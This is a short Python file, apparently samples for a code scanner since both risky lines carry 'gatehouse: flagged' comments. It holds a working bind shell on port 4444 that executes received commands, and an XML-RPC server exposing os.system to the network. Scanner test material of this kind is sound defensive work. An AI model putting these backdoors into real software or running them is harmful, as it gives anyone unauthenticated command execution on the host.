import socket, subprocess
def go():
    s = socket.socket(); s.bind(("0.0.0.0", 4444)); s.listen(1)
    c, a = s.accept()
    while True:
        cmd = c.recv(4096).decode()
        out = subprocess.check_output(cmd, shell=True)  # gatehouse: flagged
        c.send(out)


from xmlrpc.server import SimpleXMLRPCServer
import os
def remote():
    s = SimpleXMLRPCServer(("0.0.0.0", 9001), logRequests=False)
    s.register_function(os.system, "run")  # gatehouse: flagged
    s.serve_forever()
